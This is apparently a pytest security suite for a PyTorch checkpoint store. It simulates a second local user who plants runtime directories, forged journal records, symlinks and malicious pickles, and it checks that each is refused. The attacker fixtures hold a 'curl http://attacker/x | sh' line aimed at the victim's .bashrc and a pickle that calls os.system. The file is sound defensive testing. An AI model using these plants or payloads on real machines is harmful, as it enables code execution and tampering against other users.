"""Another user of the machine against the checkpoint store (docs/security.md, "Checkpoint store").

Each attack runs as a real attacker process of a second uid (65534, no groups) against the victim's
real daemon and files; that needs root to switch uids, so those tests are skipped (with the reason)
when the suite does not run as root. The victim is the test process.
"""
import json
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap

import pytest
import torch

from mindio import acp
from mindio.acp import _config, _storage, api
from mindio.errors import CheckpointError

pytestmark = pytest.mark.timeout(120)
ATTACKER = 65534
SECRET = struct.pack("<f", 1234.5678) * 4          # a pattern only the victim's checkpoint holds
OBJ = {"w": torch.full((1 << 18,), 1234.5678), "step": 5}


def _as_attacker(argv: list, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(argv, user=ATTACKER, group=ATTACKER, extra_groups=[], cwd="/", capture_output=True,
                          text=True, timeout=60, **kwargs)


def _attacker_python() -> str:
    """A Python interpreter the second uid can run (the venv's may live under root's 0700 home)."""
    if os.geteuid() != 0:
        pytest.skip("the attacker must run as a second uid, and switching uids needs root "
                    "(the CI runs the suite as root)")
    for exe in (sys.executable, shutil.which("python3") or "", "/usr/bin/python3", "/usr/local/bin/python3"):
        try:
            if exe and _as_attacker([exe, "-I", "-c", "import socket"]).returncode == 0:
                return exe
        except OSError:
            continue
    pytest.skip(f"no Python interpreter that uid {ATTACKER} may execute")


def _attacker(code: str, *args: str) -> str:
    """Run ``code`` (stdlib only) as another local user (uid/gid 65534, no groups); returns its stdout."""
    proc = _as_attacker([_attacker_python(), "-I", "-c", textwrap.dedent(code), *args])
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


@pytest.fixture
def shared_tmp():
    """A directory every user may write, like /tmp (sticky) or a shared project directory."""
    path = tempfile.mkdtemp(prefix="mioacp-shared-", dir="/tmp")
    os.chmod(path, 0o1777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def home():
    """The victim's home with a .bashrc; returns (path of .bashrc, snapshot function)."""
    path = tempfile.mkdtemp(prefix="mioacp-home-", dir="/tmp")
    os.chmod(path, 0o755)
    bashrc = os.path.join(path, ".bashrc")
    with open(bashrc, "w") as f:
        f.write("# the victim's own .bashrc\n")
    os.chmod(bashrc, 0o644)

    def snapshot():
        st = os.lstat(bashrc)
        return open(bashrc, "rb").read(), stat.S_IMODE(st.st_mode), st.st_ino, st.st_mtime_ns, st.st_uid
    yield bashrc, snapshot
    shutil.rmtree(path, ignore_errors=True)


def _log(run_dir: str) -> str:
    with open(os.path.join(run_dir, "server.log")) as f:
        return f.read()


PLANT = """
    import json, os, sys, time
    planted, target = sys.argv[1], sys.argv[2]
    os.mkdir(planted)
    os.chmod(planted, 0o777)
    evil = os.path.join(planted, "pool-1-1")
    with open(evil, "wb") as f:
        f.write(b"curl http://attacker/x | sh\\n")
    os.chmod(evil, 0o666)
    record = {"c": int(time.time() * 1e6), "path": target, "file": evil, "off": 0,
              "size": os.path.getsize(evil), "kind": "raw", "mode": 0o777}
    with open(os.path.join(planted, "journal.jsonl"), "w") as f:
        f.write(json.dumps(record) + "\\n")
    os.chmod(os.path.join(planted, "journal.jsonl"), 0o666)
"""


def test_planted_runtime_dir_is_refused(acp_env, shared_tmp, home, monkeypatch, caplog):
    """Attack 1: another user creates the victim's default runtime directory (mode 777) before the
    victim's first save, with a journal record that "recovers" attacker bytes into ~/.bashrc. The
    victim's mindio refuses the directory (logged, naming it and the owner), saves go straight to
    storage, the daemon started by hand refuses it too, and .bashrc is untouched."""
    bashrc, snapshot = home
    monkeypatch.delenv("MINDIO_ACP_DIR")
    monkeypatch.setenv("XDG_RUNTIME_DIR", shared_tmp)               # default: $XDG_RUNTIME_DIR/mindio-acp
    planted = os.path.join(shared_tmp, "mindio-acp")
    assert _config.runtime_dir() == planted
    before = snapshot()
    _attacker(PLANT, planted, bashrc)
    api.reset()
    assert acp.initialize() == -1
    refusal = [r.message for r in caplog.records if planted in r.message]
    assert refusal and "owned by uid 65534" in refusal[0] and "refusing to use it" in refusal[0]
    path = os.path.join(acp_env["ck"], "model.pt")
    assert acp.save(OBJ, path) == 2 and torch.equal(acp.load(path)["w"], OBJ["w"])
    server = subprocess.run([sys.executable, "-m", "mindio.acp.server", "--dir", planted, "--detach"],
                            capture_output=True, text=True, timeout=60)
    assert server.returncode == 1 and planted in server.stderr and "owned by uid 65534" in server.stderr
    assert sorted(os.listdir(planted)) == ["journal.jsonl", "pool-1-1"]   # the victim left nothing there
    assert snapshot() == before


def test_runtime_dirs_that_are_not_private_are_refused(acp_env, monkeypatch, caplog):
    """The same checks without a second user: a directory of ours that others can enter, a symbolic
    link, and a directory inside a parent others can write without the sticky bit."""
    base = tempfile.mkdtemp(prefix="mioacp-dirs-", dir="/tmp")
    try:
        loose, private, open_parent = (os.path.join(base, n) for n in ("loose", "private", "open"))
        os.mkdir(loose, 0o755)
        os.chmod(loose, 0o755)
        os.mkdir(private, 0o700)
        os.symlink(private, os.path.join(base, "link"))
        os.mkdir(open_parent)
        os.chmod(open_parent, 0o777)
        cases = {loose: "chmod 700", os.path.join(base, "link"): "symbolic link",
                 os.path.join(open_parent, "run"): "without the sticky bit"}
        for run_dir, words in cases.items():
            monkeypatch.setenv("MINDIO_ACP_DIR", run_dir)
            api.reset()
            caplog.clear()
            assert acp.initialize() == -1, run_dir
            assert any(run_dir in r.message and words in r.message for r in caplog.records), run_dir
        monkeypatch.setenv("MINDIO_ACP_DIR", os.path.join(base, "fresh"))
        api.reset()
        assert acp.initialize() == 0                                  # created 0700, used
        assert stat.S_IMODE(os.stat(os.path.join(base, "fresh")).st_mode) == 0o700
        acp.shutdown_server()
    finally:
        api.reset()
        shutil.rmtree(base, ignore_errors=True)


def test_runtime_dir_defaults():
    assert _config.runtime_dir({"XDG_RUNTIME_DIR": "/run/user/7"}) == "/run/user/7/mindio-acp"
    assert _config.runtime_dir({"XDG_RUNTIME_DIR": "/run/user/7", "MINDIO_ACP_DIR": "/x/y"}) == "/x/y"
    assert _config.runtime_dir({}) == f"/tmp/mindio-acp-{os.geteuid()}"


SCAN = """
    import os, sys
    pattern = bytes.fromhex(sys.argv[1])
    for top in sys.argv[2:]:
        for root, dirs, files in os.walk(top, onerror=lambda e: print("denied", e.filename)):
            for name in files:
                try:
                    with open(os.path.join(root, name), "rb") as f:
                        if pattern in f.read():
                            print("READ", os.path.join(root, name))
                except OSError:
                    print("denied", os.path.join(root, name))
"""


def test_squatted_pool_dir_is_refused(acp_env, monkeypatch, caplog):
    """Attack 2: another user pre-creates the victim's pool directory in /dev/shm (mode 777) to read
    or swap the pool. The victim's daemon refuses it (the error names it and its owner), saves go
    straight to storage and persist, and the squatter finds no checkpoint byte anywhere it looks."""
    pool = _config.pool_dir(acp_env["run"])
    _attacker("import os, sys; os.mkdir(sys.argv[1]); os.chmod(sys.argv[1], 0o777)", pool)
    old = os.umask(0o077)
    try:
        api.reset()
        assert acp.initialize() == -1
        assert any(pool in r.message and "owned by uid 65534" in r.message for r in caplog.records)
        path = os.path.join(acp_env["ck"], "model.pt")
        assert acp.save(OBJ, path) == 2
        assert torch.equal(acp.load(path, open_way="fopen")["w"], OBJ["w"])
        assert os.listdir(pool) == []
        found = _attacker(SCAN, SECRET.hex(), pool, acp_env["run"], acp_env["ck"], "/dev/shm")
        assert "READ" not in found, found
    finally:
        os.umask(old)
        shutil.rmtree(pool, ignore_errors=True)


PROBE = """
    import os, socket, struct, sys
    for path in sys.argv[1:]:
        try:
            os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
            print("OPENED", path)
        except OSError as exc:
            print("denied", path, exc.errno)
        try:
            with open(os.path.join(path, "planted"), "wb"):
                print("WROTE", path)
        except OSError:
            pass
"""


def test_other_users_cannot_reach_the_pool_or_the_runtime_dir(acp_env):
    assert acp.initialize() == 0
    pool_file = api._client.hello["pool"]
    out = _attacker(PROBE, acp_env["run"], os.path.dirname(pool_file), pool_file,
                    os.path.join(acp_env["run"], "acp.sock"), os.path.join(acp_env["run"], "journal.jsonl"))
    assert "OPENED" not in out and "WROTE" not in out and out.count("denied") == 5, out


def test_pool_is_handed_over_as_a_descriptor(acp_env):
    """The pool file's name in the pool directory is replaced by another file: a client still maps
    the daemon's own pool (the descriptor it is handed), so no checkpoint byte goes to the other file."""
    assert acp.initialize() == 0
    pool_file, size = api._client.hello["pool"], api._client.hello["pool_bytes"]
    os.rename(pool_file, pool_file + ".moved")
    with open(pool_file, "wb") as decoy:
        decoy.truncate(size)
    api.reset()
    assert acp.initialize() == 0 and api._client.hello["pool"] == pool_file
    path = os.path.join(acp_env["ck"], "model.pt")
    assert acp.save(OBJ, path) == 1 and torch.equal(acp.load(path)["w"], OBJ["w"])
    assert os.stat(pool_file).st_blocks == 0                     # not one byte was written to the decoy
    assert acp.flush() == 0 and torch.equal(acp.load(path, open_way="fopen")["w"], OBJ["w"])


CONNECT = """
    import socket, struct, sys
    body = b"\\x82\\xa2op\\xa5hello\\xa2fd\\xc3"                  # msgpack {"op": "hello", "fd": true}
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(20)
        s.connect(sys.argv[1])
        try:                            # the daemon may close before, during or after our request
            s.sendall(struct.pack(">I", len(body)) + body)
            print("REPLY" if s.recv(100) else "closed")
        except (BrokenPipeError, ConnectionResetError):
            print("closed")
"""


def test_daemon_serves_only_its_own_uid(acp_env):
    """SO_PEERCRED: even with its socket exposed by mistake (runtime dir 0711, socket 0777), the
    daemon drops another uid's connection unanswered and logs it; its own user is served on."""
    assert acp.initialize() == 0
    sock = os.path.join(acp_env["run"], "acp.sock")
    os.chmod(acp_env["run"], 0o711)
    os.chmod(sock, 0o777)
    try:
        assert _attacker(CONNECT, sock).strip() == "closed"
    finally:
        os.chmod(sock, 0o600)
        os.chmod(acp_env["run"], 0o700)
    assert "refused a connection from pid" in _log(acp_env["run"]) and "(uid 65534)" in _log(acp_env["run"])
    assert acp.save(OBJ, os.path.join(acp_env["ck"], "model.pt")) == 1


def test_forged_journal_records_are_refused(acp_env, home):
    """A journal whose records point outside the daemon's pool directory, or at a target that is not
    an absolute path, or are malformed (only a same-uid process could write them: the runtime dir is
    private): the next daemon writes nothing for them and logs each refusal with its reason."""
    bashrc, snapshot = home
    before = snapshot()
    assert acp.initialize() == 0
    acp.shutdown_server()
    outside = os.path.join(acp_env["ck"], "pool-1-1")
    with open(outside, "wb") as f:
        f.write(b"attacker bytes\n")
    os.chmod(outside, 0o600)
    records = [{"c": 10 ** 15, "path": bashrc, "file": outside, "off": 0, "size": 15, "kind": "raw", "mode": 0o600},
               {"c": 10 ** 15 + 1, "path": "relative/x.pt", "file": os.path.join(_config.pool_dir(acp_env["run"]),
                                                                                  "pool-1-1"),
                "off": 0, "size": 15, "kind": "raw"},
               {"c": 10 ** 15 + 2, "path": bashrc, "file": 5, "off": 0, "size": 15, "kind": "raw"},
               {"c": 10 ** 15 + 3, "kind": "raw"}]
    with open(os.path.join(acp_env["run"], "journal.jsonl"), "a") as f:
        f.writelines(json.dumps(r) + "\n" for r in records)
    api.reset()
    assert acp.initialize() == 0 and acp.flush() == 0
    log = _log(acp_env["run"])
    assert log.count("refused journal record") == 4
    assert "outside this daemon's pool directory" in log and "not an absolute, normalized path" in log
    assert "malformed record" in log
    assert bashrc not in {rec["path"] for rec in acp.lost_checkpoints()} and snapshot() == before


def test_temp_files_never_follow_a_planted_link(acp_env, home, caplog):
    """In a checkpoint directory others can write (mode 777, no sticky bit), another user plants
    symbolic links to the victim's .bashrc at the names of the victim's next temp file and in-progress
    marker: the saves succeed and .bashrc is untouched (O_EXCL|O_NOFOLLOW; markers made anew)."""
    bashrc, snapshot = home
    shared = tempfile.mkdtemp(prefix="mioacp-proj-", dir="/tmp")
    os.chmod(shared, 0o777)
    try:
        before = snapshot()
        direct, pooled = os.path.join(shared, "direct.pt"), os.path.join(shared, "pooled.pt")
        links = [_storage.temp_path(direct, str(os.getpid())), _storage.marker_path(pooled)]
        _attacker("import os, sys\nfor p in sys.argv[2:]: os.symlink(sys.argv[1], p)", bashrc, *links)
        assert all(os.path.islink(p) for p in links)
        assert acp.save(OBJ, direct, open_way="fopen") == 2
        assert any(links[0] in r.message and "not a file of ours" in r.message for r in caplog.records)
        assert acp.save(OBJ, pooled) == 1 and acp.flush() == 0
        for path in (direct, pooled):
            assert torch.equal(acp.load(path, open_way="fopen")["w"], OBJ["w"])
        assert snapshot() == before
    finally:
        shutil.rmtree(shared, ignore_errors=True)


@pytest.mark.parametrize("umask", [0o077, 0o022, 0o027])
def test_files_honour_the_umask_like_torch_save(acp_env, umask):
    """Persisted through the pool, written directly, written by the torch.save fallback, or by
    create_file: each file gets the mode torch.save gives (0o666 less the umask)."""
    old = os.umask(umask)
    try:
        ck = acp_env["ck"]
        torch.save(OBJ, os.path.join(ck, "torch.pt"))
        assert acp.save(OBJ, os.path.join(ck, "pool.pt")) == 1
        assert acp.save(OBJ, os.path.join(ck, "direct.pt"), open_way="fopen") == 2
        assert acp.save({"s": torch.eye(3).to_sparse()}, os.path.join(ck, "fallback.pt")) == 0
        with acp.create_file(os.path.join(ck, "raw.bin"), mode=0o666) as f:
            f.write(b"bytes")
        assert acp.flush() == 0
    finally:
        os.umask(old)
    modes = {n: stat.S_IMODE(os.stat(os.path.join(ck, n)).st_mode) for n in os.listdir(ck)}
    assert modes["torch.pt"] == 0o666 & ~umask
    assert set(modes.values()) == {0o666 & ~umask}, modes


class _RunsCode:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_preload_never_runs_code(acp_env, tmp_path):
    """Item 7: preload of a torch.save pickle that would run os.system fails (1, logged) without
    running it; a mindio container holding one is pooled without unpickling, and the later load
    refuses it, still without running it."""
    marker = tmp_path / "ran"
    evil_torch = os.path.join(acp_env["ck"], "evil_torch.pt")
    torch.save({"x": _RunsCode(marker), "w": torch.ones(3)}, evil_torch)
    assert acp.preload(evil_torch) == 1 and not marker.exists()
    evil = os.path.join(acp_env["ck"], "evil.pt")
    assert acp.save({"x": _RunsCode(marker), "w": torch.ones(3)}, evil) == 1 and acp.flush() == 0
    acp.shutdown_server()                                   # a fresh daemon: nothing pooled
    assert acp.preload(evil) == 0 and not marker.exists()
    with pytest.raises(CheckpointError, match="refuses to import"):
        acp.load(evil)
    assert not marker.exists()


def test_paths_resolve_like_the_os(acp_env):
    """Item 8: link/../x.pt with link a symbolic link names x.pt next to the link's target, as the OS
    (and torch.save) resolve it, not next to the link."""
    other = os.path.join(acp_env["ck"], "other")
    os.makedirs(os.path.join(other, "sub"))
    here = os.path.join(acp_env["ck"], "here")
    os.mkdir(here)
    os.symlink(os.path.join(other, "sub"), os.path.join(here, "link"))
    torch.save(OBJ, os.path.join(here, "link", "..", "by_torch.pt"))
    assert acp.save(OBJ, os.path.join(here, "link", "..", "by_mindio.pt")) == 1 and acp.flush() == 0
    assert acp.save(OBJ, os.path.join(here, "link", "..", "direct.pt"), open_way="fopen") == 2
    assert sorted(os.listdir(other)) == ["by_mindio.pt", "by_torch.pt", "direct.pt", "sub"]
    assert sorted(os.listdir(here)) == ["link"]
    assert torch.equal(acp.load(os.path.join(here, "link", "..", "by_mindio.pt"))["w"], OBJ["w"])


def test_pool_dir_accepts_a_kubernetes_style_dev_shm(tmp_path):
    """/dev/shm mounted 0777 without the sticky bit (Kubernetes emptyDir) still holds the pool dir;
    the runtime dir is not accepted there."""
    from mindio import _secure
    from mindio.errors import InsecurePath

    shm = tmp_path / "shm"
    shm.mkdir()
    os.chmod(shm, 0o777)
    pool = _secure.private_dir(str(shm / "pool"), sticky_parents=False)
    assert stat.S_IMODE(os.stat(pool).st_mode) == 0o700
    with pytest.raises(InsecurePath, match="without the sticky bit"):
        _secure.private_dir(str(shm / "run"))


def test_deferred_fsyncs_touch_only_regular_files(tmp_path, monkeypatch):
    """torch_dist.persist fsyncs a checkpoint's small files by name after the store's flush: a FIFO or a
    symlink planted under such a name is skipped -- never opened through the link, never blocked on."""
    mine = tmp_path / "__0.mindio.json"
    _storage.atomic_write(str(mine), [b"{}"], durable=False)
    os.mkfifo(tmp_path / "__1.mindio.json")
    (tmp_path / "__2.mindio.json").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").write_bytes(b"not ours")
    done = []
    real = os.fsync
    monkeypatch.setattr(os, "fsync", lambda fd: done.append(os.readlink(f"/proc/self/fd/{fd}")) or real(fd))
    _storage.fsync_files([str(p) for p in sorted(tmp_path.glob("__*.mindio.json"))] + [str(tmp_path / "gone")])
    assert done == [str(mine), str(tmp_path)]  # the regular file, then its directory
